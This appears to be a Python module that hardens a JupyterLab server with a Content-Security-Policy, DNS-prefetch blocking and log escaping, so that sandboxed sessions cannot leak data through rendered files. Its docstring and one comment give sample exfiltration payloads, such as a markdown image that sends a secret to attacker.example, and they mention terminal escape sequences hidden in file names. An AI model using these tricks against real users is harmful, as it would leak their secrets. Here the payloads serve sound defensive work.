"""The Content-Security-Policy of the Jupyter server started by ``scripts/lab.sh``.

Why: the ratchet cuts the SANDBOX's network, but the browser has network too,
and it renders what sandboxes write. A private session can write its data
into the workspace as ``report.md`` holding
``![](https://attacker.example/?d=<secret>)``, into an ``.html`` file, an
``.svg``, or a notebook's markdown and outputs (the file on disk, not the
outputs the kernel sanitised on their way to the page). The user opens the
file in JupyterLab and the browser fetches the address: the data leaves
without a click. Cleaning every renderer's input is not possible (files are
the user's work and are served as they are), so the page itself is told not
to fetch anything from another origin:

- images, media, fonts, styles, scripts, frames and workers only from the
  server itself (and ``data:``/``blob:`` URLs, which Lab makes locally; no
  ``data:`` frames);
- ``fetch``/XHR/websockets only to the server itself;
- embedded objects only from ``blob:`` URLs (Lab's PDF viewer puts the file's
  bytes in one; the browser's viewer then runs a PDF's open actions and
  scripts, none of which reached the network in Chromium), no ``<base>``
  redirection, forms post only to the server;
- no DNS prefetching (``X-DNS-Prefetch-Control: off``), which CSP does not cover.

A file opened in a browser tab of its own (``/files/…``) or a notebook's
HTML from nbconvert get more: :mod:`sandbox_kernel.lab_file_tabs`. A workspace
file loaded into Lab restores only what Lab itself saves, and starts no host
shell: :mod:`sandbox_kernel.lab_workspaces`. The server's log escapes control
characters in what it logs (a file name a sandbox chose holding an OSC 52
sequence went to the terminal on every save of the file):
:class:`sandbox_kernel.terminal_text.TerminalSafeServerFormatter`. Exporting a
notebook imports nothing it names: :mod:`sandbox_kernel.lab_exports`. These
three apply whether the policy is on or not. An HTML export, a page the user
opens from disk where no server policy reaches, carries a policy of its own
and shows the notebook as Lab does (:mod:`sandbox_kernel.lab_html_exports`,
installed by ``lab_exports`` while the policy is on).

What stays possible: a link the user clicks (navigation is not governed by
CSP; outputs of private sessions have their links defanged, files do not),
and everything a server-side extension fetches for itself. Scripts keep
``'unsafe-inline'`` and ``'unsafe-eval'``: JupyterLab's page has an inline
script and renderers (Vega) compile code at run time; what a sandbox writes
reaches the page through sanitisers that drop scripts, and a script that ran
anyway could still not send anything out.

``SANDBOX_KERNEL_REMOTE_CONTENT=1`` leaves the server's own default policy
(remote images in markdown, CDN widgets) and nbconvert's HTML exports, for a Lab whose users accept that a
private session's files can then send its data out when opened.
"""

from __future__ import annotations

import os
from typing import Any

#: the environment variable that turns the policy off (``1``, ``true``, ``yes``, ``on``)
REMOTE_CONTENT_ENV = "SANDBOX_KERNEL_REMOTE_CONTENT"

#: the server extension that rewrites what /files and /nbconvert send to a tab
FILE_TABS_EXTENSION = "sandbox_kernel.lab_file_tabs"
#: the Jupyter server's console log formatter (what a sandbox named, escaped)
SERVER_LOG_FORMATTER = "sandbox_kernel.terminal_text.TerminalSafeServerFormatter"
#: the server extension that stores workspaces without what would start host processes
WORKSPACES_EXTENSION = "sandbox_kernel.lab_workspaces"
#: the server extension that refuses exports which would import what a notebook names
EXPORTS_EXTENSION = "sandbox_kernel.lab_exports"

_LOCAL = "'self' data: blob:"


def content_security_policy(base_url: str = "/") -> str:
    """The policy's header value; violations are reported to jupyter_server's
    own endpoint (logged by the server), under ``base_url``."""
    base = base_url if base_url.endswith("/") else base_url + "/"
    directives = [
        "default-src 'self'",
        "script-src 'self' 'unsafe-inline' 'unsafe-eval' blob:",
        f"style-src {_LOCAL} 'unsafe-inline'",
        f"img-src {_LOCAL}",
        f"media-src {_LOCAL}",
        f"font-src {_LOCAL}",
        # no data: frames: a document in a data: URL is one no Lab code checks
        # for resource hints (labextension/src/htmlHints.ts)
        "frame-src 'self' blob:",
        "worker-src 'self' blob:",
        "connect-src 'self'",
        # Lab's PDF viewer: an <object> of a blob: URL it makes of the file
        "object-src blob:",
        "base-uri 'self'",
        "form-action 'self'",
        "frame-ancestors 'self'",
        f"report-uri {base}api/security/csp-report",
    ]
    return "; ".join(directives)


def remote_content_allowed(environ: dict[str, str] | None = None) -> bool:
    """Whether the user turned the policy off (see the module's docstring)."""
    value = (os.environ if environ is None else environ).get(REMOTE_CONTENT_ENV, "")
    return value.strip().lower() in {"1", "true", "yes", "on"}


def apply(config: Any) -> None:
    """Set the policy on a Jupyter server's config (``c`` of a config file),
    keeping other headers already configured, and load
    :mod:`sandbox_kernel.lab_file_tabs`; whatever the policy, load
    :mod:`sandbox_kernel.lab_workspaces` (workspace files start host processes,
    not fetches) and :mod:`sandbox_kernel.lab_exports` (an export imports what
    a notebook names), and escape the server's log (paths a sandbox named reach the
    terminal that runs the server).
    ``ServerApp.tornado_settings`` and ``jpserver_extensions`` are dict traits:
    a config file sets each whole, so this merges into them."""
    server = config.ServerApp
    _enable_extension(server, WORKSPACES_EXTENSION)
    _enable_extension(server, EXPORTS_EXTENSION)
    # the server's log, and each extension's (LabApp's, NotebookApp's): their own handlers
    _escape_the_log(server)
    _escape_the_log(config.ExtensionApp)
    if remote_content_allowed():
        return
    settings = dict(server.tornado_settings) if "tornado_settings" in server else {}
    headers = dict(settings.get("headers", {}))
    base_url = server.base_url if "base_url" in server else "/"
    headers["Content-Security-Policy"] = content_security_policy(base_url)
    # CSP does not govern DNS prefetching: a page naming <secret>.attacker.example
    # would send the name to a resolver. Chromium honours this header (not
    # tested here: the tests resolve no name).
    headers["X-DNS-Prefetch-Control"] = "off"
    settings["headers"] = headers
    server.tornado_settings = settings
    # Files opened in a tab of their own get a stricter sandbox and no
    # resource hints (sandbox_kernel/lab_file_tabs.py).
    _enable_extension(server, FILE_TABS_EXTENSION)


def _escape_the_log(app: Any) -> None:
    """The application's console log escapes control characters in what it logs
    (paths a sandbox named: :class:`sandbox_kernel.terminal_text.TerminalSafeServerFormatter`)."""
    logging_config = dict(app.logging_config) if "logging_config" in app else {}
    formatters = dict(logging_config.get("formatters", {}))
    formatters["console"] = {**formatters.get("console", {}), "class": SERVER_LOG_FORMATTER}
    logging_config["formatters"] = formatters
    app.logging_config = logging_config


def _enable_extension(server: Any, name: str) -> None:
    extensions = dict(server.jpserver_extensions) if "jpserver_extensions" in server else {}
    extensions[name] = True
    server.jpserver_extensions = extensions


__all__ = [
    "EXPORTS_EXTENSION",
    "FILE_TABS_EXTENSION",
    "REMOTE_CONTENT_ENV",
    "SERVER_LOG_FORMATTER",
    "WORKSPACES_EXTENSION",
    "apply",
    "content_security_policy",
    "remote_content_allowed",
]
